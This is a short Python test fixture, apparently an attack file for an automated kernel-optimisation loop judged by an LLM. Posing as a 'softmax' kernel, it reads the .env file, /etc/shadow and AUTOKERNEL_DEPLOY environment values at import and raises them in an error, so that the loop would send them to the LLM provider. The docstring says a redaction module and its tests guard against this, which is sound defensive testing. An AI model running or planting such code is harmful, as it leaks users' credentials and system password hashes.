"""Attack (round 3): read what the loop's user keeps secret and raise it, so the loop sends it to the LLM provider
("The judge's whole error") and saves it in state.json.

It reads the repository's .env (git-ignored: where users keep keys), the environment's values and /etc/shadow
(the loop may run as root), then raises them in its error at import. The judge reports the CRASH with the error,
as it must for an honest mistake; what looks like a secret is taken out of it before the loop saves it or sends
it on (autokernel/sandbox/redact.py; tests/test_redact.py judges this file through the real loop).
"""

import os

KERNEL_TYPE = "softmax"
_read = []
for _path in (".env", "/etc/shadow"):
    try:
        with open(_path) as _file:
            _read.append(_file.read().strip())
    except OSError:
        pass
_read += [value for name, value in sorted(os.environ.items()) if name.startswith("AUTOKERNEL_DEPLOY")]
raise RuntimeError("the secrets: " + " ".join(_read))


def kernel_fn(x):
    return x
